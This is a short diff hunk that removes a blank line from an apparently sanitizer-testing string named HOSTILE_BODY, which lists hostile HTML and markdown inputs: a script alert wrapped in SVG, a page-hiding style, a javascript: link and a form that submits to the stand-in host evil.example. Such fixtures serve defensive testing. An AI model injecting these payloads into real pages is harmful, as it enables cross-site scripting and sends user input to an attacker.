@@ -261,7 +261,6 @@ HOSTILE_BODY = """
 <style>body { display: none }</style>
 <svg><script>alert(1)</script></svg>
 <form action="https://evil.example"><input name="x"></form>
-
 [md link](javascript:alert(2))
 <b style="color:red">bold</b>
 """
